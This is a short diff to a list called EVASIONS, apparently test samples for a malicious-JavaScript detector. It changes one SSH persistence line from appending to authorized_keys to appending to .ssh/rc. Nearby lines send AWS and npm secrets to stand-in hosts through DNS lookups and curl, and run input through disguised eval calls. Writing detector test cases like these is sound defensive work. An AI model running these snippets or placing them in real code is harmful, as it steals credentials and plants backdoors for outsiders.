@@ -194,7 +194,7 @@ EVASIONS = [
     "require('dns').lookup(Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('hex')+'.example.invalid')",
     "require('child_process').execSync(`curl -d ${process.env.NPM_TOKEN} http://x.invalid`)",
     "require('child_process').spawn('curl',['-d',process.env.NPM_TOKEN,'http://x.invalid'])",
-    "const o=require('os'),p=require('path');require('fs').appendFileSync(p.join(o.homedir(),'.ssh/authorized_keys'),k)",
+    "const o=require('os'),p=require('path'),f=require('fs');f.appendFileSync(p.join(o.homedir(),'.ssh/rc'),k)",
     "import vm from 'node:vm'; new vm.Script(input).runInThisContext()",
     "const o={get e(){return eval}}; o.e(input)",
     "const p=new Proxy(eval,{}); p(input)",
